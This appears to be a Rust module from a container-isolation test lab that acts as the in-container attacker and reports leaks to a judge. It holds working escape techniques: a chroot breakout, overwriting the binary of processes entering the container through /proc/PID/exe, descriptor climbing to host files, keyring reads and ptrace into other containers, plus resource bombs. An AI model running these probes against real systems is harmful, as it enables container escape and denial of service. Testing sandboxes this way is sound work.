//! The attacker: what runs in the container. It says `LEAK …` for each thing it gained and `DONE` at its end.
#![allow(unsafe_code)] // raw system calls an attacker makes

use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::os::unix::net::{SocketAddr, UnixStream};
use std::path::Path;
use std::time::Duration;

use crate::lab::SECRET;
use crate::{inside_bombs, inside_kernel};

/// A word for the judge, on standard output and on the result volume.
pub(crate) fn say(text: &str) {
    println!("{text}");
    if let Ok(mut file) = OpenOptions::new().create(true).append(true).open("/result/out") {
        let _ = writeln!(file, "{text}");
    }
}

pub(crate) fn leak(text: impl AsRef<str>) {
    say(&format!("LEAK {}", text.as_ref()));
}

/// Carry out one attack.
pub(crate) fn run(attack: &str, words: &[&str]) {
    let first = words.first().copied().unwrap_or_default();
    match attack {
        "nothing" => {}
        "sleep" => std::thread::sleep(Duration::from_secs(600)),
        "masked" => masked(first),
        "mounted" => mounted(first, words.get(1).copied().unwrap_or_default()),
        "consoles" => consoles(),
        "descriptors" => descriptors(first),
        "climb" => climb(first),
        "chroot" => chroot(first),
        "lie-in-wait" => lie_in_wait(first),
        "abstract" => abstract_socket(first),
        "keys" => keys(first, words.get(1).copied().unwrap_or_default()),
        "foreign" => foreign(first.parse().unwrap_or(0)),
        "fork-bomb" => inside_bombs::fork(),
        "endless-fork-bomb" => inside_bombs::endless_fork(),
        "memory-bomb" => inside_bombs::memory(),
        "descriptor-bomb" => inside_bombs::descriptors(),
        "inotify-bomb" => inside_bombs::inotify(),
        "devices" => inside_kernel::devices(),
        "kernel-files" => inside_kernel::kernel_files(),
        "proc-sys" => inside_kernel::proc_sys(),
        "release-agent" => inside_kernel::release_agent(),
        "cgroups" => inside_kernel::cgroups(),
        "handles" => inside_kernel::handles(),
        "user-namespace" => inside_kernel::user_namespace(),
        other => say(&format!("no attack {other}")),
    }
    say("DONE");
}

/// A masked file must be the null device, whatever /dev/null is.
fn masked(path: &str) {
    let Ok(meta) = fs::metadata(path) else { return };
    let null = meta.file_type().is_char_device() && meta.rdev() == nix::sys::stat::makedev(1, 3);
    if !null {
        let text = fs::read_to_string(path).unwrap_or_default();
        leak(format!("the masked file shows {text:?}"));
    }
}

/// The marked mount must be at its place, and nowhere but below it.
fn mounted(at: &str, tag: &str) {
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let marked: Vec<&str> = mounts
        .lines()
        .filter(|l| l.contains(tag) || l.contains("/marked "))
        .filter_map(|l| l.split(' ').nth(4))
        .collect();
    if marked.is_empty() && !Path::new(at).join(tag).exists() {
        leak("the mount is nowhere in the container");
    }
    if fs::read_to_string(Path::new(at).join("secret")).is_ok_and(|t| t == SECRET) {
        leak("the host's folder is inside");
    }
}

/// No terminal is mounted anywhere but where terminals belong.
fn consoles() {
    let mounts = fs::read_to_string("/proc/self/mounts").unwrap_or_default();
    for line in mounts.lines() {
        let words: Vec<&str> = line.split(' ').collect();
        if words.get(2) == Some(&"devpts") && !words[1].starts_with("/dev/") {
            leak(format!("a terminal is mounted on {}", words[1]));
        }
    }
}

/// No descriptor but the three, and none that leads out.
fn descriptors(canary: &str) {
    let own = File::open("/proc/self/fd").map(|f| f.as_raw_fd()).unwrap_or(-1);
    for entry in fs::read_dir("/proc/self/fd").into_iter().flatten().flatten() {
        let Some(number) = entry.file_name().to_str().and_then(|n| n.parse::<i32>().ok()) else {
            continue;
        };
        let target = fs::read_link(entry.path()).unwrap_or_default();
        let of_proc = target.to_string_lossy().ends_with("/fd");
        if number > 2 && number != own && !of_proc {
            leak(format!("descriptor {number} is {}", target.display()));
        }
        if read_from(&format!("/proc/self/fd/{number}"), canary) {
            leak(format!("descriptor {number} leads to the host"));
        }
    }
}

/// Is the canary reached from this folder, by climbing?
fn read_from(folder: &str, canary: &str) -> bool {
    let up = "../".repeat(20);
    [format!("{folder}/{up}{canary}"), format!("{folder}/secret")]
        .iter()
        .any(|path| fs::read_to_string(path).is_ok_and(|t| t == SECRET))
}

/// The working folder must lie inside.
fn climb(canary: &str) {
    if read_from(".", canary) {
        leak("the working folder leads to the host");
    }
    match std::env::current_dir() {
        Ok(cwd) if cwd.is_absolute() => {}
        other => leak(format!("the working folder is {other:?}")),
    }
}

/// chroot below a folder that stays open, and climb.
fn chroot(canary: &str) {
    let _ = fs::create_dir("/tmp/below");
    let Ok(root) = File::open("/") else { return };
    let below = CString::new("/tmp/below").unwrap_or_default();
    // SAFETY: a C string and a descriptor that outlive the calls.
    unsafe {
        if libc::chroot(below.as_ptr()) != 0 {
            return say("chroot is refused");
        }
        libc::fchdir(root.as_raw_fd());
        for _ in 0..40 {
            libc::chdir(c"..".as_ptr());
        }
        libc::chroot(c".".as_ptr());
    }
    if fs::read_to_string(canary).is_ok_and(|t| t == SECRET) {
        leak("chroot leads to the host");
    }
}

/// Watch for processes that enter the container; open their program to write it, and their folders to climb.
fn lie_in_wait(canary: &str) {
    say("WATCHING");
    let own: u64 = fs::metadata("/attacker").map(|m| m.ino()).unwrap_or(0);
    let me = std::process::id().to_string();
    loop {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if !name.bytes().all(|b| b.is_ascii_digit()) || name == me {
                continue;
            }
            let base = format!("/proc/{name}");
            for door in ["root", "cwd"] {
                if read_from(&format!("{base}/{door}"), canary) {
                    leak(format!("/proc/PID/{door} of who enters leads to the host"));
                }
            }
            for fd in fs::read_dir(format!("{base}/fd")).into_iter().flatten().flatten() {
                if read_from(&fd.path().display().to_string(), canary) {
                    leak("a descriptor of who enters leads to the host");
                }
            }
            let Ok(program) = File::open(format!("{base}/exe")) else {
                continue;
            };
            if program.metadata().is_ok_and(|m| m.ino() == own) {
                continue;
            }
            std::thread::spawn(move || overwrite(&program));
        }
    }
}

/// Write the program as soon as nobody runs it.
fn overwrite(program: &File) {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    for _ in 0..200 {
        if let Ok(mut file) = OpenOptions::new().write(true).open(&path) {
            let _ = file.write_all(b"overwritten");
            return;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

fn abstract_socket(name: &str) {
    if let Ok(address) = SocketAddr::from_abstract_name(name)
        && UnixStream::connect_addr(&address).is_ok()
    {
        leak("a socket of the host answers");
    }
}

/// Search the session for the key, and read it by its number.
fn keys(name: &str, serial: &str) {
    const KEYCTL_SEARCH: libc::c_long = 10;
    const KEYCTL_READ: libc::c_long = 11;
    const SESSION: libc::c_long = -3;
    let name = CString::new(name).unwrap_or_default();
    let serial: libc::c_long = serial.parse().unwrap_or(0);
    let mut buffer = [0u8; 64];
    // SAFETY: strings and buffer outlive the calls, and the length is the buffer's.
    let (found, read) = unsafe {
        (
            libc::syscall(
                libc::SYS_keyctl,
                KEYCTL_SEARCH,
                SESSION,
                c"user".as_ptr(),
                name.as_ptr(),
                0,
            ),
            libc::syscall(
                libc::SYS_keyctl,
                KEYCTL_READ,
                serial,
                buffer.as_mut_ptr(),
                buffer.len(),
            ),
        )
    };
    if found > 0 {
        leak("the caller's session keyring is the container's");
    }
    if read > 0 {
        leak("a key of the host can be read by its number");
    }
}

/// Another container's first process, by its number on the host.
fn foreign(pid: i32) {
    let mut others = 0;
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        others +=
            usize::from(name.bytes().all(|b| b.is_ascii_digit()) && name != std::process::id().to_string());
    }
    if others > 0 {
        leak(format!("{others} other processes are visible"));
    }
    if pid <= 0 {
        return;
    }
    let mut byte = 0u8;
    let local = libc::iovec {
        iov_base: (&raw mut byte).cast(),
        iov_len: 1,
    };
    let remote = libc::iovec {
        iov_base: std::ptr::without_provenance_mut(0x40_0000),
        iov_len: 1,
    };
    // SAFETY: signals are number 0, which is never delivered; the buffers outlive the calls; a traced process
    // would be let go when this one ends.
    unsafe {
        for (what, result) in [
            ("signal", i64::from(libc::kill(pid, 0))),
            ("signal all", i64::from(libc::kill(-1, 0))),
            ("pidfd_open", libc::syscall(libc::SYS_pidfd_open, pid, 0)),
            ("ptrace", libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0)),
            (
                "process_vm_readv",
                libc::process_vm_readv(pid, &raw const local, 1, &raw const remote, 1, 0) as i64,
            ),
        ] {
            if result >= 0 {
                leak(format!("{what} reaches another container"));
            }
        }
    }
}

/// Up to 64 KiB of a file.
pub(crate) fn read_some(path: &str) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    File::open(path).ok()?.take(65_536).read_to_end(&mut bytes).ok()?;
    Some(bytes)
}
